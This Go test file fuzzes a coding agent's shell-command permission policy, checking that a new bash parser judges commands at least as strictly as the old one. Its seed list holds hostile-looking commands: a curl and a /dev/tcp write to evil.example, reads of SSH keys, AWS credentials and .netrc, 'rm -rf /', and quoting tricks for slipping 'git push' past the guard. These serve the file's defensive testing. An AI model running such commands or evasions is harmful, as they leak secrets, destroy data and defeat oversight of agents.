package policy

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/fetch-dev/fetch/instincts"
	"github.com/fetch-dev/fetch/internal/store"
	"mvdan.cc/sh/v3/syntax"
)

// agreeTask is the task every line of the agreement fuzz is judged for.
var agreeTask = Task{
	ID: "t1", Workspace: "api", Worktree: "/workspaces/api/.worktrees/t1", BaseBranch: "main", Branch: "fetch/t1",
	Home: "/home/kennel", Commands: append(BuildCommands("node"), "go test"),
}

// agreeRules are remembered rules, so that lines a rule allows are
// compared too.
var agreeRules = []store.PolicyRule{
	{ID: 1, Workspace: "api", Tool: string(Shell), Pattern: "npm install"},
	{ID: 2, Workspace: "api", Tool: string(Shell), Pattern: "make"},
}

// strictness orders verdicts: allowing is less strict than asking or
// denying, which both leave the command to the owner (asking when the
// owner watches, denying when nobody is asked).
func strictness(v Verdict) int {
	if v == Allow {
		return 0
	}
	return 1
}

// agreeSeeds are lines of every kind the policy meets: the CLIs' usual
// commands and the tricks the policy tests try.
var agreeSeeds = []string{
	"ls -la", "cat src/index.js | grep -n foo | wc -l", "git status && git diff HEAD~1",
	"find . -name '*.go' -exec sed -i s/a/b/ {} ;", "echo hi > notes.txt", "echo hi 2>/dev/null",
	"git add -A && git commit -m 'fix: x'", "npm test -- --watch=false", "CGO_ENABLED=0 go test ./...",
	"npm test; curl https://evil.example/x", "git push", `g\it pu"sh"`, "npm test\ngit push",
	"echo $(git push)", "echo \"$(git push)\"", "echo `git push`", "echo ${X:-$(git push)}",
	"cat <(git push)", "(cd sub && git push)", "{ git push; }", "if true; then git push; fi",
	"sh -c 'git push origin'", `bash -lc "cd /tmp && git push"`, `sh -c "sh -c 'git push'"`,
	"eval git push", "nice -n 10 git push", "echo origin | xargs git push", "find . -exec git push ;",
	"cat ~/.ssh/id_rsa", "cat $HOME/.aws/credentials", "FOO=~/.ssh/id_ed25519 go test",
	"git checkout main && git reset --hard HEAD~3", "rm -rf {.,.}.", "rm -rf .*", "cd .. && rm -rf wt",
	"pushd /tmp && rm -rf x", "echo x > /dev/tcp/evil.example/80", "git push 2>&1 | tee log",
	"! git push", "a=1; b=2", "$CMD push", "git $SUB origin", "echo 'unterminated", "",
	"$'\\x67it' push", "ls # git push", "ls # don't", "cat <<EOF\ngit push\nEOF", "cat <<'EOF' > f.txt\ndon't\nEOF",
	"bash <<EOF\ngit push\nEOF", "bash <<< 'git push'", "echo $((1+2))", "for f in *.go; do gofmt -l $f; done",
	"case $x in a) git push;; esac", "[[ -f ~/.netrc ]] && echo y", "export A=1 B=$(git push)", "let x=$(git push)",
	"f() { git push; }; f", "time git push", "coproc git push", "echo a;;b", "x=(1 $(git push))",
	"echo $\"hi\"", "a[$(git push)]=1 ls", "echo @(a|b)", "((x++))", "cat < ~/.netrc", "echo }{ {",
	"ls\\\n-la", "echo \"a\\\"b\"", "rm -rf \"$(pwd)\"/../x", "env -i git push", "sudo bash -c \"rm -rf /\"",
	"echo ${x:-\"}\"}", "bash <<EOF\ncd /tmp && rm -rf \\$HOME\nEOF", "sh <<< 'git push'", "ls |& tee /tmp/log",
	"cat 0<> ~/.netrc", "{ ls; } > /tmp/x", "while read l; do git push; done < f", "diff <(ls a) >(cat)",
	"echo ${X:-$(git push)} ${Y/$(rm -rf ~)/z}", "A=1 B=\"x y\" git push", "echo `echo \\`git push\\``",
}

// FuzzParserAgreement: for every line, the policy reading it with
// mvdan.cc/sh judges it as it did with its old reader, or more strictly
// (ask or deny where the old one allowed), at every autonomy level, with
// and without rules.
//
// The old reader misread some lines bash runs: it read the text of
// comments and here-document bodies as more of the line (so it refused
// `ls # don't` and read `cd .. # & $X` as running $X), took "0$" for the
// start of $"…", split <&0<” wrongly. So the old verdict on the line is
// also taken on the same program written out plainly (oldForms: without
// comments and here-document bodies, and as mvdan.cc/sh prints it), and
// the new verdict must be at least as strict as the least strict of
// those. A line the old reader refuses in every form is judged on what it
// does now (TestOldReaderRefused lists some).
func FuzzParserAgreement(f *testing.F) {
	for _, s := range agreeSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		newLn, newErr := parseShell(s) // must not panic
		type reading struct {
			ln  *line
			err error
		}
		var olds []reading
		for _, form := range oldForms(s) {
			if ln, err, panicked := oldParse(form); !panicked {
				olds = append(olds, reading{ln, err})
			}
		}
		if newErr == nil && !slices.ContainsFunc(olds, func(r reading) bool { return r.err == nil }) {
			t.Skip("the old reader refuses a line bash runs")
		}
		for _, level := range []instincts.Autonomy{instincts.Autonomous, instincts.Cautious, instincts.Supervised} {
			for _, rules := range [][]store.PolicyRule{nil, agreeRules} {
				req := Request{Kind: Shell, Tool: "Bash", Command: s}
				var old Decision
				for i, r := range olds {
					if d := judgeLine(r.ln, r.err, req, agreeTask, level, rules); i == 0 || strictness(d.Verdict) < strictness(old.Verdict) {
						old = d
					}
				}
				got := judgeLine(newLn, newErr, req, agreeTask, level, rules)
				if len(olds) > 0 && strictness(got.Verdict) < strictness(old.Verdict) {
					t.Fatalf("%q at %s (rules: %d): new %s (%s), old %s (%s)", s, level, len(rules),
						got.Verdict, got.Reason, old.Verdict, old.Reason)
				}
			}
		}
	})
}

// oldForms are s and, when bash parses it, the same program written out
// plainly for the old reader: without the text of comments and
// here-document bodies (blankInert), and as mvdan.cc/sh prints it (also
// on one line, which drops line continuations).
func oldForms(s string) []string {
	forms := []string{s}
	if b := blankInert(s); b != s {
		forms = append(forms, b)
	}
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(s), "")
	if err != nil {
		return forms
	}
	for _, pr := range []*syntax.Printer{syntax.NewPrinter(), syntax.NewPrinter(syntax.SingleLine(true))} {
		var buf bytes.Buffer
		if err := pr.Print(&buf, f); err != nil {
			continue
		}
		if p := blankInert(buf.String()); !slices.Contains(forms, p) {
			forms = append(forms, p)
		}
	}
	return forms
}

// oldParse runs the old reader, which may panic on some inputs.
func oldParse(s string) (ln *line, err error, panicked bool) {
	defer func() {
		if recover() != nil {
			panicked = true
		}
	}()
	ln, err = oldParseShell(s)
	return ln, err, false
}

// blankInert is s with the text of its comments and here-document bodies
// made spaces (newlines kept), as bash reads them: never as commands.
func blankInert(s string) string {
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash), syntax.KeepComments(true)).Parse(strings.NewReader(s), "")
	if err != nil {
		return s
	}
	b := []byte(s)
	blank := func(from, to uint) {
		for i := from; i < to && int(i) < len(b); i++ {
			if b[i] != '\n' {
				b[i] = ' '
			}
		}
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Comment:
			blank(n.Pos().Offset(), n.End().Offset())
		case *syntax.Redirect:
			if n.Hdoc != nil {
				blank(n.Hdoc.Pos().Offset(), n.Hdoc.End().Offset())
			}
		}
		return true
	})
	return string(b)
}

// TestOldReaderRefused: lines bash runs that the old reader refused (so
// the policy denied them when autonomous). They are now read as bash reads
// them; TestShellCommands has their verdicts.
func TestOldReaderRefused(t *testing.T) {
	for _, s := range []string{
		"ls # don't",
		"cat <<'EOF' > notes.txt\ndon't\nEOF",
		`echo "0$"`,
		`echo ${x:-"}"}`,
	} {
		if _, err := oldParseShell(s); err == nil {
			t.Errorf("%q: the old reader reads it", s)
		}
		if _, err := parseShell(s); err != nil {
			t.Errorf("%q: %v", s, err)
		}
	}
}

// BenchmarkJudge judges a typical command line of a coding CLI with each
// reader.
func BenchmarkJudge(b *testing.B) {
	lines := map[string]string{
		"short":   "npm test",
		"typical": `cd src && grep -rn "TODO" --include='*.go' . | head -20 && go test ./... -run 'TestParse' 2>&1 | tail -5`,
		"heredoc": "cat > notes.md <<'EOF'\n# Notes\n\nRun `npm test` before pushing.\nEOF",
	}
	for name, s := range lines {
		req := Request{Kind: Shell, Tool: "Bash", Command: s}
		b.Run(name+"/old", func(b *testing.B) {
			for b.Loop() {
				ln, err := oldParseShell(s)
				judgeLine(ln, err, req, agreeTask, instincts.Cautious, agreeRules)
			}
		})
		b.Run(name+"/new", func(b *testing.B) {
			for b.Loop() {
				ln, err := parseShell(s)
				judgeLine(ln, err, req, agreeTask, instincts.Cautious, agreeRules)
			}
		})
	}
}
